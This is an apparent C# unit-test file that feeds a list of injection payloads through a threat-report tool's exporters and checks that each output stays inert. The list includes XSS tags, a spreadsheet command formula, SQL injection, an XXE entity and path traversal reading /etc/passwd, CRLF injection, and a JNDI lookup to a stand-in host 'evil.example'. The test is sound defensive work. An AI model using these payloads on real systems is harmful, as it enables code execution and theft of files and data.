using System.Globalization;
using System.Text;
using System.Text.Json;
using AngleSharp.Html.Parser;
using Hindcast.Engine.Duties;
using Hindcast.Reports.Csv;
using Hindcast.Reports.Flow;
using Hindcast.Reports.Html;
using Hindcast.Reports.Indicators;
using Hindcast.Reports.Json;
using Hindcast.Reports.Markdown;
using Hindcast.Reports.Misp;
using Hindcast.Reports.Navigator;
using Hindcast.Reports.Notify;
using Hindcast.Reports.Sharing;
using Hindcast.Reports.Sigma;
using Hindcast.Reports.Stix;
using Hindcast.Reports.Timeline;
using Hindcast.Sigma.Loading;
using Hindcast.Tests.Unit.Conventions;

namespace Hindcast.Tests.Unit.Reports.Sharing;

/// <summary>Hostile text in every field, through every output: each comes out as text that does nothing.</summary>
public sealed class InjectionTests
{
    public static TheoryData<string> Payloads =>
    [
        "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "</textarea><svg onload=alert(1)>", "=cmd|'/c calc'!A1", "+1+1", "-2+3", "@SUM(1)",
        "\t=1", "\r=1", "a\r\n=1,2", "\u001b[31mred\u001b[0m\u001b]0;title\u0007", "\u009b31m", "a\u202egnp.exe\u2066", "nul\0", "'; DROP TABLE x; --", "\" OR 1=1 --",
        "]]><x>&e;", "<!ENTITY x SYSTEM 'file:///etc/passwd'>", "'] OR [a:b = 'c", "x' AND file:name = 'y", "back\\slash\\'", "../../etc/passwd", @"..\..\windows\x",
        "/etc/passwd\0.txt", "![x](http://evil.example/)", "[x](javascript:alert(1))", "`code`|cell|\n# head", "www.evil.example", "a@evil.example", "- key: value\n  x: y", "'quote: {a: b}",
        "%0d%0aSet-Cookie: x", "${jndi:ldap://evil.example}", "{{7*7}}", "lone\ud800", "\ufeffbom\u200b", "*?[wild]",
    ];

    [Theory]
    [MemberData(nameof(Payloads))]
    public void Csv_has_no_formula_and_keeps_its_columns(string payload)
    {
        SharedCase shared = Shared(payload);
        IReadOnlyList<TimelineEntry> entries = TimelineEntries.Of(HostileAssessment.Of(payload));
        using MemoryStream timeline = new();
        TimelineCsv.Write(HostileAssessment.Of(payload), timeline);
        foreach (string csv in new[] { IndicatorsCsv.Write(shared), TimelineText.Csv(entries), TimelineText.Timesketch(entries), TimelineText.Log2Timeline(entries), Encoding.UTF8.GetString(timeline.ToArray()).TrimStart('\uFEFF') })
        {
            string[] rows = csv.Split("\r\n")[..^1];
            Assert.True(rows.Length > 1);
            int columns = Cells(rows[0]).Count;
            Assert.All(rows, row =>
            {
                List<string> cells = Cells(row);
                Assert.Equal(columns, cells.Count);
                Assert.DoesNotContain(cells, c => c is ['=' or '+' or '-' or '@', ..]);
                Assert.DoesNotContain(row, char.IsControl);
            });
        }
    }

    [Theory]
    [MemberData(nameof(Payloads))]
    public void Json_is_whole_and_plain_ascii(string payload)
    {
        SharedCase shared = Shared(payload);
        using MemoryStream assessment = new();
        AssessmentJson.Write(HostileAssessment.Of(payload), assessment);
        string[] texts =
        [
            StixBundle.Write(shared), AttackFlow.Write(shared), MispEvent.Write(shared), NavigatorLayer.Write(shared), Encoding.UTF8.GetString(assessment.ToArray()),
            .. TimelineText.JsonLines(TimelineEntries.Of(HostileAssessment.Of(payload))).Split('\n', StringSplitOptions.RemoveEmptyEntries),
        ];
        Assert.All(texts, text =>
        {
            using JsonDocument read = JsonDocument.Parse(text);
            Assert.DoesNotContain(text, c => c is '<' or '>' or '\'' or > '~' || (c < ' ' && c != '\n'));
        });
    }

    [Theory]
    [MemberData(nameof(Payloads))]
    public void Stix_patterns_hold_one_value_and_no_more(string payload)
    {
        SharedCase shared = Shared(payload);
        using JsonDocument bundle = JsonDocument.Parse(StixBundle.Write(shared));
        string[] patterns = [.. bundle.RootElement.GetProperty("objects").EnumerateArray().Where(o => o.GetProperty("type").GetString() == "indicator").Select(o => o.GetProperty("pattern").GetString()!)];
        Assert.NotEmpty(patterns);
        Assert.Equal(
            shared.Indicators.Select(i => (i.Indicator.Kind, i.Indicator.Value)).Order(),
            patterns.Select(p => Assert.Single(StixPattern.Values(p)!)).Select(v => (v.Kind == IndicatorKind.Ipv4 && v.Value.Contains(':', StringComparison.Ordinal) ? IndicatorKind.Ipv6 : v.Kind, v.Value)).Order());
    }

    [Theory]
    [MemberData(nameof(Payloads))]
    public void Sigma_rules_load_and_hold_the_values_only(string payload)
    {
        SharedCase shared = Shared(payload);
        string yaml = SigmaRules.Write(shared);
        SigmaLoadResult loaded = SigmaLoader.LoadText(yaml, "case.yml");
        Assert.Empty(loaded.Problems);
        Assert.Equal(yaml.Split("\n---\n").Length, loaded.Rules.Count);
        Assert.DoesNotContain(yaml, c => IsUnseen(c));
    }

    [Theory]
    [MemberData(nameof(Payloads))]
    public void Markdown_makes_no_html_no_link_and_no_new_line(string payload)
    {
        string page = MarkdownReport.Write(Shared(payload));
        Assert.DoesNotContain(page, c => c is '<' or '>' || IsUnseen(c));
        Assert.DoesNotContain("://", page, StringComparison.Ordinal);
        Assert.DoesNotContain("www.", page, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("](", page.Replace("\\]", "", StringComparison.Ordinal), StringComparison.Ordinal);
        int columns = 0;
        foreach (string line in page.Split('\n'))
        {
            int pipes = line.Replace("\\\\", "", StringComparison.Ordinal).Replace("\\|", "", StringComparison.Ordinal).Count(c => c == '|');
            Assert.True(columns == 0 || pipes == 0 || pipes == columns, line);
            columns = pipes;
            Assert.Matches("^(?:$|#{1,3} |- |\\| |\\|---|\\*\\*|[^-#>+=|`*])", line);
        }
    }

    [Theory]
    [MemberData(nameof(Payloads))]
    public void Reports_to_authorities_show_the_text_on_lines_of_their_own(string payload)
    {
        string text = NotifyText.Write(Shared(payload), DutyLoader.Load(Path.Combine(Checkout.Root, "packs"), []), null);
        Assert.DoesNotContain(text, c => IsUnseen(c));
        Assert.All(text.Split('\n'), line => Assert.Matches("^(?:$|   |-- |=|DRAFT|TLP|No --known-at|Status|Binds|Clock|Conditions|Source|[A-Z].*\\([a-z0-9-]+\\)$)", line));
    }

    [Theory]
    [MemberData(nameof(Payloads))]
    public void The_page_has_no_element_that_was_not_ours(string payload)
    {
        using MemoryStream page = new();
        HtmlReport.Write(HostileAssessment.Of(payload), page);
        string html = Encoding.UTF8.GetString(page.ToArray());
        Assert.Empty(new HtmlParser().ParseDocument(html).QuerySelectorAll("script, img, iframe, object, svg [onload], textarea"));
    }

    private static SharedCase Shared(string payload) => new(HostileAssessment.Of(payload), SharedSample.Options with { IdentifyVictim = true, Organisation = payload });

    private static bool IsUnseen(char c) => c != '\n' && char.GetUnicodeCategory(c) is
        UnicodeCategory.Control or UnicodeCategory.Format or UnicodeCategory.Surrogate or UnicodeCategory.PrivateUse
        or UnicodeCategory.LineSeparator or UnicodeCategory.ParagraphSeparator or UnicodeCategory.OtherNotAssigned;

    /// <summary>RFC 4180, by another hand than the writer's.</summary>
    private static List<string> Cells(string row)
    {
        List<string> cells = [];
        for (int at = 0; at <= row.Length;)
        {
            if (at < row.Length && row[at] == '"')
            {
                int end = at + 1;
                StringBuilder cell = new();
                while (row[end] != '"' || (end + 1 < row.Length && row[end + 1] == '"'))
                {
                    end += row[end] == '"' ? 1 : 0;
                    cell.Append(row[end++]);
                }

                cells.Add(cell.ToString());
                at = end + 2;
            }
            else
            {
                int end = row.IndexOf(',', at) is >= 0 and int comma ? comma : row.Length;
                cells.Add(row[at..end]);
                at = end + 1;
            }
        }

        return cells;
    }
}
